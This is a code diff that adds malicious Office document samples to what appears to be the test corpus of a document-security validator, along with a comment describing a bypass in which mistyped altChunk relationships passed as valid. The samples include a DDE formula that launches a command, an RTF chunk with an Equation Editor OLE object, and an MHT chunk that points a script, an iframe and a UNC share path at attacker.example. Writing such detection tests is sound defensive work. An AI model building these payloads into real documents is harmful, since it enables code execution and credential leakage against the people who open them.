@@ -1358,6 +1358,7 @@ const officeItems: CorpusItem[] = [
   ...strictOfficeItems(),
   ...svgContentOfficeItems(),
   ...wordChartOfficeItems(),
+  ...altChunkOfficeItems(),
 ];
 
 /** An Office item, declared as its id's first word says (a PPTX, not evidence, as a DOCX). */
@@ -4792,5 +4793,47 @@ function wordChartOfficeItems(): CorpusItem[] {
       'OOXML_EXTERNAL',
     ),
     item('docx-chart-series-formula-dde', 'DDE', () => documentWithChart("cmd|' /c calc'!A0"), 'OOXML_DDE'),
+  ];
+}
+
+/**
+ * A document imported by altChunk whose relationship is typed as something else (round 14): the
+ * aFChunk type was refused, the `<w:altChunk>` element was not, so an RTF chunk carrying an OLE
+ * object (the Equation Editor's shape) typed as a picture, and an MHT chunk with a script, an
+ * iframe and a share's picture typed as a hyperlink, were VALID.
+ */
+function altChunkOfficeItems(): CorpusItem[] {
+  const importing = (type: string, target: string, chunk: string) =>
+    office(
+      'docx',
+      {
+        ...mainRels('docx', rel('rId9', type, target)),
+        'word/document.xml': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${REL}"><w:body><w:altChunk r:id="rId9"/><w:p/></w:body></w:document>`,
+      },
+      [{ name: `word/${target}`, data: chunk }],
+    );
+  return [
+    item(
+      'docx-alt-chunk-rtf-equation-typed-as-picture',
+      'OOXML embedded object',
+      () =>
+        importing(
+          'image',
+          'media/image5.png',
+          '{\\rtf1{\\object\\objemb{\\*\\objclass Equation.3}{\\*\\objdata d0cf11e0a1b11ae1}}}',
+        ),
+      'OOXML_EMBEDDED_OBJECT',
+    ),
+    item(
+      'docx-alt-chunk-mht-script-typed-as-hyperlink',
+      'OOXML embedded object',
+      () =>
+        importing(
+          'hyperlink',
+          'chunk.mht',
+          'MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<script>location="http://attacker.example/"</script><iframe src="http://attacker.example/"></iframe><img src="\\\\attacker.example\\share\\x.png">',
+        ),
+      'OOXML_EMBEDDED_OBJECT',
+    ),
   ];
 }
